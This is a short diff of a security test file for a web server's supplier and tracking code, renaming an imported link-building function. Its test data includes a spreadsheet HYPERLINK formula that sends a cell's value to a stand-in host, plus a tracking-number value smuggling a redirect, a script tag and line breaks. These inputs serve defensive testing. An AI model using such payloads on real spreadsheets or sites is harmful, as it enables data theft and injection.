@@ -6,7 +6,7 @@ import type { PublicationId, RunId, SupplierIri } from '../../web/server/domain/
 import { parseSku } from '../../web/server/domain/ids.ts';
 import { endpoint, readIri, resourceAddress } from '../../web/server/supplier/address.ts';
 import { oneLine } from '../../web/server/supplier/text-fields.ts';
-import { linkOf } from '../../web/server/tracking/couriers.ts';
+import { trackingLink } from '../../web/server/tracking/couriers.ts';
 
 const formulas = [
   '=HYPERLINK("https://evil.test/?"&A1,"Click")',
@@ -74,7 +74,7 @@ describe('SEC an address of the supplier', () => {
 });
 
 test('SEC a tracking number is one value in the link that a customer gets', () => {
-  const link = linkOf('https://track.test/p?n={}', '1&to=https://evil.test/#/../"<script>\r\n');
+  const link = trackingLink('https://track.test/p?n={}', '1&to=https://evil.test/#/../"<script>\r\n');
   expect(new URL(link).searchParams.get('n')).toBe('1&to=https://evil.test/#/../"<script>\r\n');
   expect(link).not.toMatch(/["<>\r\n#]/);
 });
